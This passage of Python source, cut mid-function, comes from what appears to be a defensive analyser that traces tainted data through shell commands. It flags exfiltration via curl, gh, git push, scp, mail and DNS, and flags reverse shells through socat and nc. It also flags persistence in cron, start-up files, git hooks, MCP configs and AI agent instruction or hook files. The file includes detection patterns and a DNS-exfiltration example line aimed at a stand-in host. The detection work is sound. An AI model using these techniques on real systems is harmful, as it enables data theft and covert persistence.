        if sub == "credential" or (sub == "config" and "credential" in joined):
            label = Label("secret", "git's stored credentials", line)
        elif sub in _REPO_DUMPS:
            label = Label("repo", "the repository's changes", line)
        elif sub == "config" and "core.hooksPath" in joined:
            pass
    if name in ("gh", "git"):
        _publishes(a, k, shapes)
    out = _passthrough(a, k)
    return Value(UNKNOWN, out.taint | ({label} if label else set()))


#: Where ``git add`` / ``git remote add`` leave what a later ``git push`` sends (in the
#: variables, so branches copy them with the rest of the state).
_STAGED = "\x00git-staged"
_REMOTE = "\x00git-remote:"
#: ``gh`` options whose value is sent (``-f k=v``, ``-F k=@file``, ``--input file``, a body).
_GH_DATA = frozenset(
    {"-f", "-F", "--field", "--raw-field", "--input", "-b", "--body", "--body-file", "-d"}
)


def _publishes(a: ShellAnalysis, k: Call, shapes: list[str]) -> None:
    """``gh gist create FILE``, ``gh api ... -f body=@FILE``, ``gh issue create --body
    "$X"``: data sent to GitHub; ``git add`` then ``git push URL``: the staged files sent
    to the remote (a foreign one is not the token's issuer)."""
    name, args, stdin, c, t = k
    plain = [s for s in shapes if not s.startswith("-")]
    if name == "gh":
        if plain[:2] == ["gist", "create"]:
            files = [v for v in args[2:] if not v.shape.startswith("-")]
            taint = _union(a._read(v) for v in files) | stdin.taint
            a.verdicts.send(taint, c.start, c.end, command=t, host="gist.github.com")
        elif plain[:1] == ["api"] or plain[:2] in (
            ["issue", "create"], ["issue", "comment"], ["pr", "create"], ["pr", "comment"],
            ["release", "upload"],
        ):  # fmt: skip
            sent: list[Taint] = [stdin.taint] if "-" in shapes else []
            for index, shape in enumerate(shapes):
                if shape in _GH_DATA and index + 1 < len(args):
                    value = args[index + 1]
                    sent.append(value.taint)
                    field_value = value.shape.split("=", 1)[-1]
                    if field_value.startswith("@") or shape in ("--input", "--body-file"):
                        sent.append(a._read(Value(field_value.lstrip("@"), value.taint)))
            if plain[:2] == ["release", "upload"]:
                sent += [a._read(v) for v in args[3:] if not v.shape.startswith("-")]
            a.verdicts.send(_union(sent), c.start, c.end, command=t, host="api.github.com")
        return
    sub = plain[0] if plain else ""
    if sub == "add":
        staged = a.state.vars.get(_STAGED, Value(""))
        files = [v for v in args[1:] if not v.shape.startswith("-")]
        taint = _union(a._read(v) for v in files)
        if any(v.shape in (".", "*", ":/") for v in files) or {"-A", "--all", "-u"} & set(shapes):
            taint |= _union(v.taint for v in a.state.files.values())
        a.state.vars[_STAGED] = Value("", staged.taint | taint)
    elif sub == "commit" and {"-a", "--all", "-am"} & set(shapes):
        staged = a.state.vars.get(_STAGED, Value(""))
        taint = _union(v.taint for v in a.state.files.values())
        a.state.vars[_STAGED] = Value("", staged.taint | taint)
    elif sub == "remote" and plain[1:2] == ["add"] and len(plain) >= 4:
        a.state.vars[_REMOTE + plain[2]] = Value(plain[3])
    elif sub == "push":
        target = plain[1] if len(plain) > 1 else "origin"
        remote = a.state.vars.get(_REMOTE + target)
        url = remote.shape if remote is not None else target
        host = url_host(url) or (url.split("@", 1)[-1].split(":", 1)[0] if "@" in url else None)
        staged = a.state.vars.get(_STAGED, Value(""))
        taint = staged.taint | _union(v.taint for v in args)
        if taint:
            a.verdicts.send(taint, c.start, c.end, command=t, host=host, url=url)


def _registry(a: ShellAnalysis, k: Call) -> Value:
    """``npm config set registry URL``, ``npm config set //host/:_authToken $TOKEN``,
    ``pip config set global.index-url https://user:$TOKEN@host/``."""
    name, args, stdin, c, t = k
    shapes = [v.shape for v in args]
    if len(shapes) >= 3 and shapes[0] == "config" and shapes[1] == "get":
        if re.search(r"_auth|_password|token", shapes[2], re.IGNORECASE):
            label = Label("token", f"the {name} token", a.line(c.start), _REGISTRY_ISSUERS[name])
            return Value(UNKNOWN, frozenset({label}))
        return Value(UNKNOWN)
    if len(shapes) >= 3 and shapes[0] == "config" and shapes[1] == "set":
        key_value = args[2:]
        key = key_value[0].shape
        value = key_value[1] if len(key_value) > 1 else Value(key.partition("=")[2])
        taint = value.taint | key_value[0].taint
        host = url_host(key.lstrip("/") if key.startswith("//") else value.shape)
        if key.startswith("//"):
            host = url_host("https:" + key.split(":_", 1)[0])
        a.verdicts.send(taint, c.start, c.end, command=t, host=host, how="registry")
    if name in ("npm", "yarn", "pnpm") and shapes[:1] in (["publish"],):
        return _NOTHING
    return Value(UNKNOWN, stdin.taint)


_REGISTRY_ISSUERS = {
    "npm": ("npmjs.org", "npmjs.com"),
    "yarn": ("npmjs.org", "npmjs.com", "yarnpkg.com"),
    "pnpm": ("npmjs.org", "npmjs.com"),
    "pip": ("pypi.org", "pythonhosted.org"),
    "pip3": ("pypi.org", "pythonhosted.org"),
}


def _crontab(a: ShellAnalysis, k: Call) -> Value:
    _name, args, stdin, c, t = k
    shapes = [v.shape for v in args]
    if any(s in ("-l", "-e", "-r") for s in shapes):
        return Value(UNKNOWN, CLEAN)
    plain = [v for v in args if not v.shape.startswith("-") or v.shape == "-"]
    if plain and plain[0].shape != "-":
        held = a.state.files.get(norm_path(plain[0].shape), Value(UNKNOWN))
        content = held
    else:
        content = stdin
    a.persist("/var/spool/cron/crontabs/user", content, c.start, c.end, t)
    return _NOTHING


def _chmod(a: ShellAnalysis, k: Call) -> Value:
    del a, k
    return _NOTHING


def _schtasks(a: ShellAnalysis, k: Call) -> Value:
    """``schtasks /create ... /tr "command"``, ``at``: a task the system runs later."""
    name, args, _stdin, c, t = k
    shapes = [v.shape.lower() for v in args]
    if name == "schtasks" and "/create" in shapes and "/tr" in shapes:
        index = shapes.index("/tr")
        if index + 1 < len(args):
            a.persist("", args[index + 1], c.start, c.end, t, place="a scheduled task")
    elif (
        (
            name in ("reg", "reg.exe")
            and shapes[:1] == ["add"]
            and any(re.search(r"currentversion\\*run", s) for s in shapes)
        )
        and "/d" in shapes
        and shapes.index("/d") + 1 < len(args)
    ):
        a.persist("", args[shapes.index("/d") + 1], c.start, c.end, t, place="a registry Run key")
    return _NOTHING


def _remote(a: ShellAnalysis, k: Call) -> Value:
    """scp / sftp / ssh / mail: what they send."""
    name, args, stdin, c, t = k
    shapes = [v.shape for v in args]
    if name in {"scp", "rsync"}:
        remote = [s for s in shapes if re.match(r"^(?:[\w.-]+@)?[\w.-]+:", s)]
        if remote:
            host: str | None = remote[-1].split(":", 1)[0].split("@")[-1]
            local = [v for v in args if not v.shape.startswith("-") and v.shape not in remote]
            taint = _union(a._read(v) for v in local)
            a.verdicts.send(taint, c.start, c.end, command=t, host=host)
            return _NOTHING
        return _archive(a, k)
    if name == "ssh":
        plain = [s for s in shapes if not s.startswith("-")]
        host = plain[0].split("@")[-1] if plain else None
        a.verdicts.send(
            stdin.taint | _union(v.taint for v in args[1:]), c.start, c.end, command=t, host=host
        )
        return Value(UNKNOWN)
    if name in ("mail", "sendmail", "mutt"):
        address = next((s for s in shapes if "@" in s), None)
        host = address.split("@")[-1] if address else None
        attached = [args[i + 1] for i, s in enumerate(shapes[:-1]) if s in ("-a", "-A")]
        taint = stdin.taint | _union(a._read(v) for v in attached)
        a.verdicts.send(taint, c.start, c.end, command=t, host=host)
        return _NOTHING
    return Value(UNKNOWN, stdin.taint)


# The commands read as filters, decoders, archivers, secret stores, registries and remote
# copies: one declaration each (``less``, ``more`` and ``openssl`` are registered below
# with their own handlers, which hand ``openssl enc -d`` back to :func:`_decoder`).
_handles(
    "cat", "head", "tail", "tac", "strings", "od", "hexdump", "nl", "sort", "uniq", "cut",
    "paste", "fold", "column", "awk", "gawk", "sed", "grep", "egrep", "yq", "gzip", "gunzip",
    "zcat", "bzip2", "bunzip2", "xz", "unxz", "iconv", "find", "ls", "type", "zstd", "lz4",
    "sqlite3", "mapfile", "readarray",
)(_passthrough)  # fmt: skip
_handles("base64", "base32", "basenc", "xxd", "tr", "rev", "uudecode")(_decoder)
_handles("tar", "zip", "7z", "cp", "mv", "install", "ln", "ditto", "dd")(_archive)
_handles(
    "security", "secret-tool", "pass", "aws", "gcloud", "gh", "kubectl", "git", "az", "op",
    "vault",
)(_tool)  # fmt: skip
_handles("npm", "yarn", "pnpm", "pip", "pip3")(_registry)
_handles("scp", "sftp", "ssh", "rsync", "mail", "sendmail", "mutt")(_remote)
_handles("tee")(_tee)
_handles("read")(_read_builtin)
_handles("export", "declare", "local", "readonly", "typeset")(_declare)
_handles("env", "printenv", "set", "compgen")(_env)
_handles("eval", "source", ".", "iex", "invoke-expression")(_eval)
_handles("crontab")(_crontab)
_handles("chmod")(_chmod)
_handles("schtasks", "schtasks.exe", "reg", "reg.exe")(_schtasks)


def _jq(a: ShellAnalysis, k: Call) -> Value:
    _name, args, _stdin, c, t = k
    shapes = [v.shape for v in args]
    bound = {}
    for index, shape in enumerate(shapes[:-2]):
        if shape in ("--arg", "--argjson"):
            bound["$" + shapes[index + 1]] = shapes[index + 2]
    program = " ".join(shapes)
    for key, value in bound.items():
        program = program.replace(key, f'"{value}"')
    a.verdicts.safeguards(program, c.start, c.end, command=t)
    return _passthrough(a, k)


_handles("jq")(_jq)


@_handles(*_DOWNLOADERS)
def _download(a: ShellAnalysis, k: Call) -> Value:
    """curl / wget and friends: what they send (data options, headers, the URL itself),
    where to, and what they download (to a file or to standard output)."""
    name, args, stdin, c, t = k
    line = a.line(c.start)
    data: list[Taint] = []
    url: Value | None = None
    output: str | None = None
    remote_name = False
    index = 0
    sends = False
    while index < len(args):
        value = args[index]
        shape = value.shape
        option, eq, inline = shape.partition("=") if shape.startswith("--") else (shape, "", "")
        following = (
            Value(inline, value.taint)
            if eq
            else (args[index + 1] if index + 1 < len(args) else _NOTHING)
        )
        step = 1 if eq else 2
        if option in _DATA_OPTIONS or (name == "curl" and re.fullmatch(r"-[a-zA-Z]*[dFT]", option)):
            sends = True
            data.append(_payload(a, following, stdin))
            index += step
            continue
        if option in (
            "-H",
            "--header",
            "-u",
            "--user",
            "--cookie",
            "-b",
            "--oauth2-bearer",
            "-A",
            "--user-agent",
            "-e",
            "--referer",
        ):
            data.append(following.taint)
            index += step
            continue
        if (
            option in ("-o", "--output", "--output-document")
            or (name == "wget" and option == "-O")
            or (name == "curl" and re.fullmatch(r"-[a-zA-Z]*o", option))
        ):
            output = following.shape
            index += step
            continue
        if name == "wget" and re.fullmatch(r"-[a-zA-Z]*O", option):
            output = following.shape
            index += step
            continue
        if option in ("--url",):
            url = following
            index += step
            continue
        if option in ("-O", "--remote-name", "--remote-name-all") or (
            name == "curl" and re.fullmatch(r"-[a-zA-Z]*O[a-zA-Z]*", option)
        ):
            remote_name = True
            index += 1
            continue
        if shape.startswith("-"):
            index += (
                1
                if eq or option in _FLAG_OPTIONS or (len(shape) > 2 and not shape.startswith("--"))
                else (2 if option in _VALUE_OPTIONS else 1)
            )
            continue
        if name in ("http", "https", "xh", "curlie") and url is not None:
            data.append(value.taint)  # httpie: key=value items
            sends = True
        elif url is None and not re.fullmatch(r"(?:GET|POST|PUT|PATCH|DELETE|HEAD)", shape):
            url = value
        index += 1
    if url is None:
        return Value(UNKNOWN, stdin.taint)
    host = url_host(url.shape)
    taint = _union([url.taint, *data])
    a.verdicts.send(taint, c.start, c.end, command=t, host=host, url=url.shape)
    del sends
    label = Label("download", shorten(url.shape, 80), line)
    if output is not None and output != "-":
        a.write(
            output,
            Value(UNKNOWN, frozenset({label})),
            append=False,
            start=c.start,
            end=c.end,
            command=t,
        )
        return _NOTHING
    if remote_name or (
        name == "wget"
        and output is None
        and not any(v.shape in ("-q0-", "-qO-", "-O-") for v in args)
    ):
        target = posixpath.basename(url.shape.split("?", 1)[0].rstrip("/")) or "index.html"
        a.write(
            target,
            Value(UNKNOWN, frozenset({label})),
            append=False,
            start=c.start,
            end=c.end,
            command=t,
        )
        return _NOTHING
    return Value(UNKNOWN, frozenset({label}))


_DATA_OPTIONS = frozenset(
    {
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--data-ascii",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
    }
)
_FLAG_OPTIONS = frozenset(
    {
        "-s",
        "-S",
        "-f",
        "-L",
        "-k",
        "-v",
        "-q",
        "-i",
        "-I",
        "-N",
        "-c",
        "-G",
        "--silent",
        "--fail",
        "--location",
        "--insecure",
        "--compressed",
        "--show-error",
        "--progress-bar",
    }
)
_VALUE_OPTIONS = frozenset(
    {
        "-X",
        "--request",
        "-m",
        "--max-time",
        "--retry",
        "-w",
        "--write-out",
        "--connect-timeout",
        "-P",
        "--proto",
        "--tlsv1.2",
        "--cacert",
        "--cert",
        "--key",
        "-x",
        "--proxy",
        "-r",
        "--range",
        "-C",
        "--continue-at",
        "--limit-rate",
        "--resolve",
        "--retry-delay",
        "--max-redirs",
        "-t",
        "--tries",
        "-T",
        "--timeout",
        "--method",
    }
)


def _payload(a: ShellAnalysis, value: Value, stdin: Value) -> Taint:
    """What a data option sends: its value, or the file it names with ``@``/``<``."""
    shape = value.shape
    taint = value.taint
    for marker in ("@", "<"):
        at = shape.find(marker)
        if at >= 0:
            named = shape[at + 1 :].split(";", 1)[0]
            if named in ("-", ""):
                taint |= stdin.taint
            else:
                taint |= a._read(Value(named))
    if shape in ("-", "."):
        taint |= stdin.taint
    if not shape.startswith(("@", "<")) and "/" in shape:
        taint |= a._read(Value(shape))
    return taint


@_handles(*_STREAMERS)
def _stream(a: ShellAnalysis, k: Call) -> Value:
    name, args, stdin, c, t = k
    shapes = [v.shape for v in args]
    line = a.line(c.start)
    if name == "openssl" and (not shapes or shapes[0] != "s_client"):
        return _decoder(a, k)
    if name == "socat":
        lowered = [s.lower() for s in shapes]
        runs = any(s.startswith(("exec:", "system:")) for s in lowered)
        network = next(
            (
                s
                for s in lowered
                if s.startswith(
                    ("tcp:", "tcp4:", "tcp6:", "openssl:", "udp:", "ssl:", "tcp-connect:")
                )
            ),
            None,
        )
        if network is not None:
            host = network.split(":")[1] if network.count(":") >= 1 else None
            if runs:
                a._reverse_shell(host, c.start, c.end)
                return _NOTHING
            a.verdicts.send(stdin.taint, c.start, c.end, command=t, host=host)
            return Value(UNKNOWN, frozenset({Label("remote", host or "", line)}))
        return Value(UNKNOWN, stdin.taint)
    plain: list[str] = []
    runs_shell = False
    listen = False
    index = 0
    while index < len(shapes):
        shape = shapes[index]
        if shape in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or (
            re.fullmatch(r"-[a-zA-Z]*e", shape)
        ):
            runs_shell = True
            index += 2
            continue
        if shape.startswith("-"):
            listen = listen or "l" in shape
            index += 2 if shape in ("-p", "-w", "-s", "-i", "-q", "-x", "-X") else 1
            continue
        plain.append(shape)
        index += 1
    host = next((p for p in plain if not p.isdigit()), None)
    if runs_shell:
        if listen and host is None:
            a.verdicts.add("SD1025", c.start, c.end, host="anyone who connects", command=shorten(t))
        else:
            a._reverse_shell(host, c.start, c.end)
        return _NOTHING
    if host is not None and not listen:
        a.verdicts.send(stdin.taint, c.start, c.end, command=t, host=host)
    return Value(UNKNOWN, frozenset({Label("remote", host or "", line)}))


@_handles(*_DNS)
def _dns(a: ShellAnalysis, k: Call) -> Value:
    """A DNS lookup of a name built from data: ``dig $(whoami).x.example``."""
    _name, args, _stdin, c, t = k
    for value, word in zip(args, _arg_words(c), strict=False):
        if value.shape.startswith(("-", "+", "@")) or word is None:
            continue
        suffix = _literal_suffix(word)
        if suffix is None or (not value.taint and all(isinstance(p, str) for p in word.parts)):
            continue
        domain = suffix.lstrip(".")
        if "." not in domain:
            continue
        taint = value.taint
        if a.verdicts.send(taint, c.start, c.end, command=t, host=domain, how="dns"):
            continue
        if any(isinstance(p, Sub) for p in word.parts) or taint:
            a.verdicts.add("SD1028", c.start, c.end, domain=domain, command=shorten(t))
    return Value(UNKNOWN)


def _arg_words(c: Simple) -> list[Word | None]:
    words: list[Word | None] = list(c.words[1:])
    return words


def _literal_suffix(word: Word) -> str | None:
    """The literal ``.domain.tld`` that ends a word whose start is computed."""
    if not word.parts or isinstance(word.parts[-1], (Var, Sub)):
        return None
    if all(isinstance(p, str) for p in word.parts):
        return None
    last = word.parts[-1]
    assert isinstance(last, str)
    return last if last.startswith(".") or "." in last else None


@_handles(
    "less",
    "more",
    "most",
    "bat",
    "batcat",
    "view",
    "vim",
    "vi",
    "nvim",
    "nano",
    "emacs",
    "code",
    "open",
    "xdg-open",
    "pager",
)
def _viewer(a: ShellAnalysis, k: Call) -> Value:
    """A file opened for reading by a person before it runs is not run unseen."""
    _name, args, stdin, _command, _text = k
    for value in args:
        if not value.shape.startswith("-"):
            a.state.verified.add(norm_path(value.shape))
    return Value(UNKNOWN, stdin.taint)


@_handles(*_VERIFIERS)
def _verify(a: ShellAnalysis, k: Call) -> Value:
    """A checksum or signature check names the files it vouches for."""
    _name, args, stdin, _command, _text = k
    named = " ".join([v.shape for v in args] + [stdin.shape])
    for path in list(a.state.files):
        base = posixpath.basename(path)
        if base and (base in named or path in named):
            a.state.verified.add(path)
    return Value(UNKNOWN)


def _shell_name(text: str) -> bool:
    first = text.strip().split(None, 1)[0] if text.strip() else ""
    if _basename(first) in ("sudo", "exec", "nohup", "setsid"):
        parts = text.split()
        first = next((p for p in parts[1:] if not p.startswith("-")), "")
    return _basename(first) in _SHELLS or _basename(first).startswith(("python", "perl"))


def _dev_tcp(shape: str) -> str | None:
    match = re.match(r"^/dev/(?:tcp|udp)/([^/]+)/", shape)
    return match.group(1) if match else None


def _planted_key(value: Value) -> bool:
    if any(label.kind in ("download", "remote") for label in value.taint):
        return True
    key = re.search(
        r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com)"
        r"\s+(AAAA[0-9A-Za-z+/=]{16,})",
        value.shape,
    )
    return key is not None and "..." not in value.shape[key.start() : key.end() + 3]


#: Where a write installs something that runs later, or lets someone in.
_PLACES: tuple[tuple[re.Pattern[str], str], ...] = tuple(
    (re.compile(pattern), place)
    for pattern, place in (
        (r"(?:^|/)\.ssh/authorized_keys2?$", "authorized_keys"),
        (r"^/etc/crontab$|^/etc/cron\.[\w.]+/|^/var/spool/cron/|^/etc/anacrontab$", "a cron job"),
        (
            r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|"
            r"kshrc|cshrc|tcshrc|xprofile|xinitrc)$|^/etc/(?:profile|bash\.bashrc|zsh/zshrc|"
            r"environment)$|^/etc/profile\.d/|\.config/fish/config\.fish$|"
            r"PowerShell/Microsoft\.PowerShell_profile\.ps1$|\$PROFILE$",
            "a shell start-up line",
        ),
        (r"(?:^|/)\.git/hooks/[\w.-]+$|(?:^|/)\.husky/[\w.-]+$", "a git hook"),
        (
            r"\.config/systemd/user/[^/]+\.(?:service|timer)$|^/etc/systemd/system/[^/]+\."
            r"(?:service|timer)$",
            "a service",
        ),
        (r"Library/LaunchAgents/[^/]+\.plist$|^/Library/LaunchDaemons/", "a launch agent"),
        (r"\.config/autostart/[^/]+\.desktop$", "an autostart entry"),
        (r"\.pth$|(?:^|/)(?:site|user)customize\.py$", "a Python start-up file"),
        (
            r"(?:^|/)claude_desktop_config\.json$|(?:^|/)\.cursor/mcp\.json$|"
            r"(?:^|/)\.codeium/windsurf/mcp_config\.json$|^~/\.claude\.json$|"
            r"^~/\.mcp\.json$|(?:^|/)Code/User/mcp\.json$|^~/\.gemini/settings\.json$",
            "an MCP server config",
        ),
        (
            r"(?:^|/)(?:CLAUDE|AGENTS|GEMINI)(?:\.local)?\.md$|(?:^|/)\.claude/(?:memory|rules|"
            r"agents|commands)/|(?:^|/)\.cursorrules$|(?:^|/)\.cursor/rules/|(?:^|/)\.windsurfrules$"
            r"|(?:^|/)\.github/copilot-instructions\.md$|(?:^|/)\.clinerules",
            "instructions",
        ),
        (
            r"(?:^|/)\.claude/settings(?:\.local)?\.json$|(?:^|/)\.gemini/settings\.json$"
            r"|(?:^|/)\.codex/config\.toml$",
            "an agent hook",
        ),
    )
)


#: What makes a ``.pth`` line or ``sitecustomize.py`` more than imports and an install
#: hook (setuptools' own, an editable install's finder): it runs commands or fetched code.
_STARTUP_RUNS = re.compile(
    r"\b(?:exec|eval|compile|system|popen|subprocess|spawn\w*|urlopen|urllib|requests|"
    r"socket|b64decode|base64|codecs|marshal|pickle|zlib|fromhex|startfile)\b"
)
#: A skill's own files: a download written over them replaces what was reviewed.
_OWN_FILES = re.compile(
    r"(?:^|/)SKILL\.md$|(?:^|/)\.(?:claude|codex|gemini|cursor|agents)/skills/|"
    r"(?:^|/)skills/[\w.-]+/(?:scripts|references|assets)/",
    re.IGNORECASE,
)
_REGISTRY_CONFIG = re.compile(
    r"(?:^|/)(?:pip\.conf|pip\.ini|\.npmrc|\.yarnrc(?:\.yml)?|\.pypirc|\.condarc|"
    r"\.gemrc|settings\.xml|nuget\.config)$",
    re.IGNORECASE,
)
_REGISTRY_URL = re.compile(
    r"(?:index-url|extra-index-url|registry|npmRegistryServer|repository|url)\s*[=:]\s*"
    r"[\"']?(\S+?)[\"']?(?:\s|$)|^//([^/\s]+)/:_auth",
    re.IGNORECASE | re.MULTILINE,
)
#: Variables that point an agent's or an SDK's API traffic (and its key) at a host.
_API_BASE = re.compile(
    r"\b(?:export\s+)?(?P<var>(?:ANTHROPIC|OPENAI|CLAUDE_CODE|GEMINI|GOOGLE_GEMINI|AZURE_OPENAI|"
    r"MISTRAL|COHERE|GROQ)_(?:BASE_URL|API_BASE|API_URL|ENDPOINT|API_ENDPOINT|BASE))\s*=\s*"
    r"[\"']?(?P<url>[^\s\"';]+)"
)
_EXEC_LINE = re.compile(r"^\s*Exec\w*\s*=\s*[-@+!:]*(.*)$", re.MULTILINE)
_PLIST_STRING = re.compile(r"<string>([^<]*)</string>")
_HOOK_COMMAND = re.compile(r'"command"\s*:\s*"((?:[^"\\]|\\.)*)"')


def _commands_of(place: str, content: str) -> str:
    """The commands a file installed at ``place`` runs: a unit's ``Exec*=`` lines, a
    launch agent's program strings, an agent settings file's hook commands; else the
    whole text (cron tables, start-up files, git hooks)."""
    if place in ("a service", "an autostart entry"):
        return "\n".join(_EXEC_LINE.findall(content))
    if place == "a launch agent":
        return " ".join(_PLIST_STRING.findall(content))
    if place == "an agent hook":
        return "\n".join(
            command.encode("utf-8", "replace").decode("unicode_escape", "replace")
            for command in _HOOK_COMMAND.findall(content)
        )
    return content


def persistence_place(path: str) -> str | None:
    """What a write to ``path`` installs, if it installs something."""
    path = home(path).replace("\\", "/")
    for pattern, place in _PLACES:
        if pattern.search(path):
            return place
    return None


_CRON_TIME = re.compile(r"^\s*(?:@\w+|(?:\S+\s+){5})(?:(?:root|[a-z_][\w-]*)\s+(?=/|\w+\s))?")


def installed_does(content: str, *, cron: bool = False) -> list[str]:
    """What the shell text ``content`` (written to a cron table, a start-up file, a hook)
    does that a reviewer must see: downloads and runs code, runs a decoded payload,
    opens a reverse shell, sends data out."""
    if not content.strip() or len(content) > 20_000:
        return []
    text = content.replace(UNKNOWN, "X")
    if cron:
        text = "\n".join(
            _CRON_TIME.sub("", line)
            for line in text.splitlines()
            if not re.match(r"\s*(?:#|\w+=)", line)
        )
    hits = nested_hits(text, "sh", nested=1, judge_sends=True)
    does: list[str] = []
    for match in _API_BASE.finditer(text):
        host = url_host(match.group("url"))
        if (
            host
            and not placeholder_host(host)
            and not _local_host(host)
            and not any(host == issuer or host.endswith("." + issuer) for issuer in _API_ISSUERS)
        ):
            does.append(f"points `{match.group('var')}` (and the API key sent with it) at `{host}`")
    for hit in hits:
        what = {
            "SD1011": "downloads and runs code",
            "SD1012": "runs a decoded payload",
            "SD1025": "opens a reverse shell",
            "SD1013": "sends secrets out",
            "SD1026": "installs more",
            "SD1028": "sends data out in DNS lookups",
            "SEND": "sends data out",
        }.get(hit.code)
        if hit.code == "SEND" and hit.value("what"):
            what = f"sends {hit.value('what')} out"
        if what and what not in does:
            does.append(what)
    return does


_API_ISSUERS = (
    "anthropic.com",
    "openai.com",
    "openai.azure.com",
    "googleapis.com",
    "mistral.ai",
    "cohere.ai",
    "cohere.com",
    "groq.com",
    "amazonaws.com",
)


def _local_host(host: str) -> bool:
    return bool(re.match(r"^(?:localhost|127\.|0\.0\.0\.0|\[?::1)", host))


def _and(items: list[str]) -> str:
    return items[0] if len(items) == 1 else ", ".join(items[:-1]) + " and " + items[-1]


def _join(values: list[Value]) -> Value:
    if not values:
        return _NOTHING
    if len(values) == 1:
        return values[0]
    return Value("".join(v.shape for v in values), _union(v.taint for v in values))


def _union(taints: Iterable[Taint]) -> Taint:
    out: set[Label] = set()
    for taint in taints:
        out |= taint
    return frozenset(out)


class _SendingVerdicts(Verdicts):
    """Verdicts that also note every send with data (for text a script installs)."""

    def send(
        self,
        taint: Taint,
        start: int,
        end: int,
        *,
        command: str,
        host: str | None,
        how: str = "network",
        url: str = "",
    ) -> bool:
        reported = super().send(taint, start, end, command=command, host=host, how=how, url=url)
        if not reported and taint:
            what = "the repository's changes" if any(lbl.kind == "repo" for lbl in taint) else ""
            self.add("SEND", start, end, what=what)
        return reported


def nested_hits(code: str, language: str, *, nested: int, judge_sends: bool = False) -> list[Hit]:
    """The hits of a literal script some code runs (offsets into ``code``)."""
    if language != "sh":
        analyse = NESTED.get(language)
        return analyse(code, nested) if analyse is not None else []
    verdicts: Verdicts = (_SendingVerdicts if judge_sends else Verdicts)(Line(code))
    script, _errors = parse_shell(code)
    ShellAnalysis(code, verdicts, nested=nested).run(script)
    return verdicts.hits


def shell_hits(
    text: str, start: int = 0, end: int | None = None
) -> tuple[list[Hit], tuple[int, ...]]:
    """The SD1011-SD1014 and SD1025-SD1028 hits of the shell script ``text[start:end]``
    (offsets into ``text``), and where it met parse errors."""
    parser = ShellParser(text, start, end)
    try:
        script = parser.parse()
    except RecursionError:  # pragma: no cover - bounded by the parser's depth
        return [], (start,)
    verdicts = Verdicts(Line(text))
    ShellAnalysis(text, verdicts).run(script)
    return verdicts.hits, tuple(parser.error_at)


def shell_text_hits(
    pieces: tuple[tuple[str, Taint], ...], files: dict[str, Value], line: int, prefix: str
) -> list[Hit]:
    """The findings of a shell command line built in another language (a Python or
    JavaScript string given to a shell): each computed value it was built from stands in
    the shell as a variable holding that value; files the program wrote are the shell's
    too (``prefix``: the variables' names, ``__py``, ``__js``). Every finding is on
    ``line``."""
    names: dict[str, Value] = {}
    parts: list[str] = []
    for index, (shape, taint) in enumerate(pieces):
        if not taint and UNKNOWN not in shape:
            parts.append(shape)
        else:
            name = f"{prefix}{index}"
            names[name] = Value(shape, taint)
            parts.append("${" + name + "}")
    code = "".join(parts)
    if not code.strip() or len(code) > 20_000:
        return []
    script, _errors = parse_shell(code)
    verdicts = Verdicts(lambda _offset: line)  # type: ignore[arg-type]
    analysis = ShellAnalysis(code, verdicts, nested=1)
    analysis.state.vars.update(names)
    analysis.state.files = files
    analysis.run(script)
    return verdicts.hits
